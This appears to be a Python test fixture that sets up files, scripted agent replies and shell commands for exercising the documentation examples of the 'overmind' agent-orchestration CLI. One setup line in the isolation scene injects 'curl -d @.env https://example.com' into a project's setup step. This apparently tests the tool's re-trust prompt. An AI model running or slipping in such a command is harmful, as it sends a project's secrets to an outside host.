"""What has to be there so that the console blocks of a page can be tried: files, agents' answers, what is typed."""

from __future__ import annotations

import json
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field

from tests.house.test_docs import read
from tests.kit.spec_documents import FILES
from tests.kit.specs import whole_script
from tests.kit.transcript import steps
from tests.process.house.test_readme import between

Lines = Mapping[str, Sequence[str | Sequence[str]]]


@dataclass(frozen=True)
class Scene:
    """Where a page plays."""

    folder: str = "/src/shop"
    """As the page calls it."""
    running: bool = True
    """Whether a daemon runs before the first step."""
    programs: Mapping[str, str] = field(default_factory=dict)
    """Programs that stand in for those of a whole machine: name and script for the shell."""
    files: Mapping[str, str] = field(default_factory=dict)
    repository: bool = False
    """Whether the files are committed."""
    begin: Sequence[str] = ()
    """Commands before the first step."""
    between: Mapping[str, Sequence[str]] = field(default_factory=dict)
    """Commands before a step: `overmind ps@2` is the second time that it is given."""
    lines: Lines = field(default_factory=dict)
    """What agents answer to a text, and then to what their tool said."""
    typed: Mapping[str, Sequence[Sequence[tuple[str, str]]]] = field(default_factory=dict)
    """For commands that need a terminal: each time what to wait for, and what to type then."""
    unsorted: Sequence[str] = ()
    """Beginnings of commands whose lines may come in another order."""
    left_out: Mapping[str, str] = field(default_factory=dict)
    """Commands that are not run here, and where they are."""


AWAIT_DONE = "until overmind spec list | grep -q '^carts *done'; do sleep 0.1; done"
FIVE_MINUTES = between(read("docs/queue.md"), "five minutes")
MANY = """{{"title": "Build", "command": "make", "ref": "build", "cwd": "site"}}
{{"title": "Publish", "command": ["make", "publish"], "needs": ["build"], "priority": "{priority}", "review": "person"}}
"""
QUEUED = """\
cart notes:
	@until test -e ~/shown; do sleep 0.1; done
	@touch $@.txt
prices:
	@echo no prices yet
"""
MAKEFILE = """\
deps test docs site:
	@sleep 0.3
	@mkdir -p site
	@echo 12 passed
"""
RELEASE = """\
[blueprint]
name = "release"

[vars]
version = "2"

[agents.build]
command = "sleep 3; echo dist/app-${vars.version}.tar"

[agents.db]
command = "echo starting; sleep 0.3; echo listening; sleep 1000"
restart = "always"
ready = { log = "listening" }

[agents.test]
command = "test -e fixed"
depends_on = ["build", { agent = "db", until = "ready" }]

[agents.publish]
command = "echo published"
depends_on = ["test"]
"""
WRONG = RELEASE.replace("publish]\ncommand", "publish]\ncomand").replace('["test"]', '["tests"]')
REST = "overmind shutdown -y; rm -rf $OVERMIND_HOME/*; overmind start"
"""What follows on the page knows nothing of what stands before it."""
BOSS = """\
!bash overmind claude run --name server 'Write the endpoint /login in api/login.py. Do not touch the tests.' && \
overmind claude run --name tests 'Write tests for /login in tests/test_login.py. Do not touch the endpoint.' && \
overmind wait server tests && overmind claude run --name review --wait 'You review changes.'"""
LIMITS = json.dumps(
    {
        "file_path": "/home/ada/shop/api/limits.py",
        "old_string": "LIMIT = 10",
        "new_string": "LIMIT = 20\nBURST = 5",
    }
)
DATABASES = """{"questions": [{"question": "Which database?", "header": "Database", "multiSelect": false, "options":
 [{"label": "PostgreSQL", "description": "a server"}, {"label": "SQLite", "description": "a file"}]}]}"""
SHOP: Lines = {
    "say in one line what this repository is": ["A web shop: a Flask API in api/ and its tests in tests/."],
    "read the code, then wait for me": ["Read it: 14 files, a Flask API with SQLite. What shall I do?"],
    "how many tests are there?": ["31, in 4 files."],
    "which of them are slow?": ["Two: test_checkout (4 s) and test_import (9 s)."],
    "clean up": ["!bash rm -rf build  # Remove the old build", "Done."],
    "clean up again": ["!bash rm -rf build  # Remove the old build", "Done."],
    "run the tests and say what fails": [["I run the suite.", "!bash pytest -q"], "All 31 tests pass."],
    "count the lines of the README": ["120."],
    "now write a test for the empty cart": ["Written."],
    "think it over": ["!sleep 30"],
    "raise the limit": [
        f"!tool Edit {LIMITS}",
        "Raised.",
    ],
    "pick a database": [
        f"!question {DATABASES}",
        "SQLite it is.",
    ],
}
"""What the agent of most pages says."""

SSH = """\
while [ "$1" != -- ]; do shift; done
host=${2#*@}; shift 2
case $host in
old.*) echo "ssh: connect to host $host port 22: Connection refused" >&2; exit 255;;
tpyo.*) echo "ssh: Could not resolve hostname $host: Name or service not known" >&2; exit 255;;
esac
mkdir -p ~/$host
exec env HOME="$HOME/$host" OVERMIND_HOME="$HOME/$host/.overmind" "$@"
"""
"""Other machines are folders of this one; what a real sshd does is in tests/hives."""
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG alice@laptop"
INVITE = f"overmind hive invite alice --role operator --key '{KEY}'"
COMPILE = "overmind run --name tests --restart on-failure 'python3 -m compileall -q overmind_core && echo compiled'"
RED = """overmind run --isolate --name red --wait \\
"echo 2 > a; echo new > new; git add .; git commit -q -m 'Add the cart'\""""
LOOKED = [(">>>", "x = 41\r"), (">>> x = 41\n>>>", "x + 1\r"), ("42\n>>>", "\x1c")]

LOOKED_AT = r"    while not (Path.home() \/ \"looked\").exists():\n        time.sleep(0.1)"
"""What an agent of the shop does until its ports were listed, however slow the machine is."""
CART = "overmind quest add 'Add the cart' --name cart --into main -- make cart"

SCENES: dict[str, Scene] = {
    "README.md": Scene(
        folder="~/shop",
        running=False,
        programs={"ssh": SSH},
        lines=SHOP,
        files={"overmind_core/__init__.py": "", "Makefile": MAKEFILE + QUEUED, "release.toml": RELEASE},
        begin=['cp -r "$PYTHONPATH/examples" .'],
        between={
            f"{COMPILE}@1": ["overmind shutdown -y"],
            "overmind claude run --wait say in one line what this repository is@1": [REST],
            "overmind hive add eu1 eu1.example.com@1": [REST],
            f"{CART}@1": ["git init -q -b main; git add .; git commit -q -m 'A shop'"],
            "overmind quest why release-notes@1": ["touch ~/shown"],
            "overmind trust@1": [
                "cp -r examples/webshop ~/webshop", "cd ~/webshop", "cp .env.example .env",
                "sed 's/redis-server/python3 -m tests.stand_in --port $PORT #/' no-docker.yml > .overmind.yml",
                f"sed -i 's/    time.sleep(SECONDS)/{LOOKED_AT}/' agents/own_world.py",
                "git init -q -b main; git add .; git commit -q -m 'A shop'",
            ],
            "overmind run --name header 'python3 -m agents.header'@1": [
                "until [ $(overmind ports | grep -c discount) = 3 ]; do sleep 0.1; done"  # two take theirs in any order
            ],
            "overmind commit discount -m 'Ten per cent off'@1": ["touch ~/looked"],
        },
        typed={"overmind demo": [[("demo-agent", "q")]], "overmind trust": [[("[y/N]", "y\r")]]},
        unsorted=["overmind apply"],
        left_out={"make run": "the suite's own first step", ". .venv/bin/activate": "the same"},
    ),
    "docs/queue.md": Scene(
        repository=True,
        files={
            "Makefile": QUEUED + "publish:\n\t@true\n",
            "README": "A shop",
            "site/Makefile": "build publish:\n\t@true\n",
            "site.jsonl": MANY.format(priority="high"),
            "more.jsonl": MANY.format(priority="urgent"),
        },
        running=False,
        begin=["printf '[queue]\\nslots = 2\\nagent = [\"true\"]\\n' > $OVERMIND_HOME/config.toml; overmind start"],
        between={
            "overmind quest list --graph@1": ["touch ~/shown"],
            "overmind quest add -f site.jsonl@1": ["until overmind board | grep -q '✔ cart'; do sleep 0.1; done"],
        },
        left_out={step.command: "tests/process/contract/test_queue_commands.py, alone" for step in steps(FIVE_MINUTES)},
    ),
    "docs/specs.md": Scene(
        repository=True,
        folder="/home/ada/shop",
        files={name: f"{name}\n" for name in FILES},
        programs={"my-agent": 'exec python -IS "$PYTHONPATH/tests/kit/scripted.py" ~/script.json'},
        begin=[f"cat > ~/script.json <<'END'\n{json.dumps(whole_script())}\nEND"],
        between={
            "overmind spec show carts@1": [AWAIT_DONE],
            "overmind spec run carts --from design --wait@1": [AWAIT_DONE],
            "overmind spec show carts | grep stale@1": [
                "sed -i 's/adds a book/adds any book/' .overmind/specs/carts/requirements.md"
            ],
            "overmind spec show carts | tail -3@1": ["echo more >> shop/store.py"],
        },
        left_out={"overmind spec check carts": "tests/core/cli/specs/test_check.py"},
    ),
    "docs/activity.md": Scene(lines=SHOP, files={"api/limits.py": "LIMIT = 10\n"}, folder="/home/ada/shop"),
    "docs/agents.md": Scene(lines=SHOP, programs={"pytest": "sleep 0.2"}),
    "docs/attach.md": Scene(
        typed={"overmind attach repl": [LOOKED, [("42\n>>>", "exit(3)\r")]]},
        between={
            "overmind screen repl --json | cut -c1-95@1": [
                "overmind restart repl; until overmind screen repl | grep -q '>>>'; do sleep 0.1; done",
                "for said in 'x = 41' 'x + 1'; do overmind send repl \"$said\"; done",
            ]
        },
    ),
    "docs/blueprints.md": Scene(
        folder="/home/ada",
        files={"release.toml": WRONG},
        begin=['cp -r "$PYTHONPATH/examples" .', f"cat > right.toml <<'END'\n{RELEASE}END"],
        between={
            "overmind apply release.toml@2": ["cp right.toml release.toml"],
            "overmind apply /src/copy/ci.toml@1": [
                "mkdir -p ../src/main ../src/copy",
                "printf '[agents.build]\\ncommand = \"sleep 600\"\\n' | tee ../src/main/ci.toml > ../src/copy/ci.toml",
                "overmind apply ../src/main/ci.toml",
            ],
            "overmind apply release.toml --rerun failed --wait@1": ["touch fixed"],
            "overmind apply release.toml@3": [
                "sed -i 's/sleep 3/sleep 60/' release.toml; overmind delete release; overmind apply release.toml"
            ],
            "overmind diff release.toml@1": [
                "sed -i 's/starting;/begins;/' release.toml",
                "printf '[agents.docs]\\ncommand = \"true\"\\n' >> release.toml",
            ],
        },
        unsorted=["overmind apply", "overmind logs", "overmind --headless"],
    ),
    "docs/demo.md": Scene(
        between={
            "overmind demo stop@1": [
                f"until overmind ps --all | grep -q {late}; do sleep 0.2; done"
                for late in ("demo-tests", "demo-reader")
            ]
        }
    ),
    "docs/headless.md": Scene(
        lines=SHOP,
        files={"Makefile": MAKEFILE},
        between={
            "overmind --headless run --trust 'date > built.txt'@1": [
                "git init -q -b main; echo 'isolation: {}' > .overmind.yml; git add .; git commit -q -m first"
            ]
        },
    ),
    "docs/hives.md": Scene(
        running=False,
        repository=True,
        files={"a": "1\n"},
        programs={"ssh": SSH},
        between={f"{INVITE}@1": [f"overmind shutdown -y -H {name}" for name in ("eu1", "gpu", "box")]},
        left_out={INVITE: "tests/hives/test_invite.py, for the account's usual home"},
    ),
    "docs/landing.md": Scene(
        files={"a": "1\n", "b": "1\n", "Makefile": "test:\n\t@sleep 2\n"},
        repository=True,
        begin=[
            RED,
            "overmind run --isolate --name blue --wait \"echo 3 > a; echo 3 > b; git commit -q -a -m 'Blue prices'\"",
            "overmind run --isolate --name odd 'echo odd > odd; exec sleep 1000'",
        ],
        between={"overmind merge blue@1": ["echo 4 > b; git commit -q -a -m 'My prices'"]},
    ),
    "docs/logs.md": Scene(
        lines={
            "which files are there?": [["I'll look.", "!bash ls -la"], "Two: a.py and b.py."],
            "make a file notes.md": ["!bash touch notes.md", "It is there now."],
            "say hello": ["!error 529"],
        },
        begin=[
            "overmind run --name build 'echo built'", "overmind run --name api 'echo error 1'",
            "overmind run --name worker 'echo done'", "overmind run --name demo 'echo hello'",
            "overmind claude run --name looker 'which files are there?'",
            "overmind claude run --type session --name writer make a file notes.md",
            "until overmind answer writer allow; do sleep 0.2; done",
            "overmind claude run --name unlucky --env CLAUDE_CODE_MAX_RETRIES=2 say hello",
        ],
        left_out={
            "overmind stop filler": "tests/process/faults/test_full_disk.py, which mounts a small disk",
            "overmind prune --older 0s -y": "the same",
            "overmind shutdown -y": "the same file, by a limit of file size",
        },
    ),
    "docs/memory.md": Scene(repository=True, begin=["git remote add origin git@github.com:team/shop.git"]),
    "docs/messages.md": Scene(
        lines=SHOP,
        files={"instructions.md": "count the lines of the README"},
        between={"overmind send repl '6 * 7'@1": ["until overmind screen repl | grep -q '>>>'; do sleep 0.1; done"]},
    ),
    "docs/orchestration.md": Scene(
        lines={
            "add a login to the shop": [BOSS, "It is done."],
            "Write the endpoint /login in api/login.py. Do not touch the tests.": ["!sleep 4"],
            "Write tests for /login in tests/test_login.py. Do not touch the endpoint.": ["!sleep 4"],
            "You review changes.": ["OK"],
            "divide the work": ["Divided."],
        },
        files={"overmind.json": '{"mcpServers":{"overmind":{"command":"overmind","args":["mcp"]}}}\n'},
        unsorted=["overmind cost"],  # two agents work side by side, and whose turn ends first comes first
    ),
    "docs/quests.md": Scene(
        files={
            "Makefile": ".PHONY: site\nsite:\n\t@echo building\n\t@mkdir -p site\n"
            "\t@[ ! -e site/tried ] || echo hello > site/index.html\n\t@touch site/tried\n"
        }
    ),
    "docs/rituals.md": Scene(files={"Makefile": "backup report:\n\t@true\n"}),
    "docs/service.md": Scene(programs={"systemctl": 'echo "$@"', "loginctl": "exit 0"}),
    "docs/web.md": Scene(
        left_out={
            "overmind web --open": "tests/process/web_server/test_serving.py, at a port of its own",
            "overmind web --background": "the same",
            "overmind web link --name phone": "tests/contract/test_web_access.py",
            "overmind web revoke phone": "the same",
        }
    ),
}  # fmt: skip

PROJECT = """\
services:
  web:
    command: python3 app.py --port $PORT
    port: 3000
    restart: on-failure
    ready: { http: /health, timeout: 30s }
  cache:
    docker: redis:7
    port: 6379
    ready: { tcp: true }
isolation:
  base: main
  copy: [.env]
  link: [node_modules]
  setup: [make deps]
  port_range: 30000-30099
"""
"""As the page has it, but for ports that nobody else takes meanwhile."""
APP = """\
import http.server, os, sys
class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(503 if os.path.exists("sick") else 200)
        self.end_headers()
http.server.HTTPServer(("127.0.0.1", int(sys.argv[2])), Page).serve_forever()
"""
ENGINE: dict[str, Scene] = {
    "docs/isolation.md": Scene(
        repository=True,
        files={
            ".overmind.yml": PROJECT,
            "app.py": APP,
            "Makefile": "deps:\n\t@sleep 2\ntest:\n\t@sleep 1000\n",
            ".gitignore": ".env\nnode_modules\n",
            ".env": "",
            "node_modules/one": "",
        },
        begin=["overmind trust -y"],
        between={
            "overmind isolate --check@1": ["overmind kill --all -y; overmind trust --revoke"],
            "overmind run 'make test'@1": [
                "overmind trust -y",
                "sed -i 's#make deps#make deps \\&\\& curl -d @.env https://example.com#' .overmind.yml",
            ],
            "overmind run --name red 'make test'@1": [
                "git checkout -q .overmind.yml; touch sick; git add sick; git commit -q -m sick",
                "overmind trust -y",
            ],
        },
        typed={"overmind run 'make test'": [[("[y/N]", "n\r")]]},
    ),
}
"""Pages that need an engine of Docker."""
